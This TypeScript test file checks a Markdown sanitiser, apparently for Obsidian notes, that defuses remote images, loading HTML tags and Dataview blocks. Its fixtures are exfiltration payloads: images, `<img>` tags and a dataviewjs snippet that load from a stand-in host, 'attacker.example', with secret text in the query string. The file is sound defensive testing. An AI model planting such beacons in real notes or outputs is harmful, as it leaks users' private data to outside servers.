/**
 * T1 (hostile review 7): `defuseRemoteContent` was a regex pass and missed ordinary CommonMark
 * forms; it now parses the Markdown (micromark, CommonMark + GFM). Every form the review listed is
 * rendered afterwards with a second, independent parser, the CommonMark reference implementation
 * (`commonmark`), as a witness: nothing in the HTML may load from the web or run a Dataview block.
 */
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { defuseRemoteContent } from './defuse-remote-content.js';

const require = createRequire(import.meta.url);
const commonmark = require('commonmark') as {
  Parser: new () => { parse(text: string): unknown };
  HtmlRenderer: new () => { render(doc: unknown): string };
};

/** The HTML the CommonMark reference renderer makes of `text` (raw HTML passed through, as Obsidian keeps `<img src>`). */
function render(text: string): string {
  return new commonmark.HtmlRenderer().render(new commonmark.Parser().parse(text));
}

/** What in rendered HTML would load or run: an element that loads (any attribute layout) or a Dataview block. */
const LOADS =
  /<(?:img|iframe|video|audio|source|embed|object|image|svg|link|style|script)[\s/>]|<[a-z][^<>]*[\s/"'](?:src|srcset|background|poster|style)\s*=|class="language-dataview(?:js)?"/i;

const A = 'https://attacker.example';

/** The review's forms, each with text the defused output must still contain (readable). */
const FORMS: Record<string, string> = {
  'code span across a blank line': `Decision \`\n\n![](${A}/p.png?q=rubber-casing-12.50)\n\n\``,
  'img/src in an HTML block': `<div>\n<img/src="${A}/a.png?q=decision">\n</div>`,
  'a < inside an attribute value': `<img alt="a<b" src="${A}/b.png?q=decision2">`,
  'reference definition in a block quote': `![logo][r]\n\n> [r]: ${A}/c.png?q=decision3`,
  'reference definition, URL on the next line': `![logo][r]\n\n[r]:\n  ${A}/c.png?q=decision3`,
  'dataviewjs in a callout': `> [!note]\n> \`\`\`dataviewjs\n> dv.el("img","",{attr:{src:"${A}/d.png"}})\n> \`\`\``,
  'dataviewjs in a list item (indented)': '- item\n\n    ```dataviewjs\n    dv.paragraph("x")\n    ```',
  'escaped backtick before an image': `Decision \\\`![](${A}/p.png?q=secret) then \``,
  'escaped backtick before a tag': `Decision \\\`<img src="${A}/p.png?q=secret"> then \``,
  'backticks in link destinations': `[x](https://a.example/\`)![](${A}/p.png?q=secret)[y](\`)`,
  'two definitions of one label': `![x][r]\n\n[r]: ${A}/1.png\n[r]: ${A}/2.png`,
  'image in a table cell': `| a | b |\n|---|---|\n| ![](${A}/t.png?q=S) | x |`,
  'tab-indented fence in a list': '- item\n\n\t```dataviewjs\n\tdv.paragraph(1)\n\t```',
  'dataview block in a nested quote': '> > ~~~dataview\n> > LIST\n> > ~~~',
};

describe('T1: every CommonMark form of a remote image, loading tag or Dataview block is defused', () => {
  for (const [name, text] of Object.entries(FORMS)) {
    it(name, async () => {
      expect(render(text), `${name}: the witness sees the attack before`).toMatch(LOADS);
      const r = await defuseRemoteContent(text);
      expect(render(r.text), name).not.toMatch(LOADS);
      expect(r.defused.length, name).toBeGreaterThan(0);
      expect(r.text.split('\n')).toHaveLength(text.split('\n').length);
      // Idempotent: a second pass finds nothing.
      expect(await defuseRemoteContent(r.text)).toEqual({ text: r.text, defused: [] });
    });
  }

  it('an image in a GFM footnote (Obsidian shows footnotes; the CommonMark witness has none)', async () => {
    const r = await defuseRemoteContent(`Text[^1]\n\n[^1]: ![](${A}/f.png)`);
    expect(r.text).toBe(`Text[^1]\n\n[^1]: [image: attacker.example/f.png](${A}/f.png)`);
  });

  it('rewrites only the items: every other byte stays (a long note around one image)', async () => {
    const around =
      '# Title\n\nSome *text* with `code ![](https://a.example/x.png)` and [a link](https://a.example).\n\n';
    const text = `${around}![](${A}/p.png)\n\n${around}`;
    const r = await defuseRemoteContent(text);
    expect(r.text).toBe(`${around}[image: attacker.example/p.png](${A}/p.png)\n\n${around}`);
  });

  it('keep compares parsed items: an image URL the file held only inside code is not kept', async () => {
    const before = `Ref: \`![](${A}/p.png?q=SECRET-DECISION)\`\n`;
    const after = `${before}![](${A}/p.png?q=SECRET-DECISION)\n`;
    const r = await defuseRemoteContent(after, { keep: before });
    expect(r.defused.map((d) => d.kind)).toEqual(['image']);
    expect(render(r.text)).not.toMatch(LOADS);
  });

  it('keep: the same image (same URL) the file already showed stays, written anywhere', async () => {
    const before = 'Team logo: ![](https://corp.example/logo.png)\n';
    const after = `${before}\n- again ![logo](https://corp.example/logo.png)\n- new ![](${A}/x.png)\n`;
    const r = await defuseRemoteContent(after, { keep: before });
    expect(r.text).toBe(
      `${before}\n- again ![logo](https://corp.example/logo.png)\n- new [image: attacker.example/x.png](${A}/x.png)\n`,
    );
  });
});
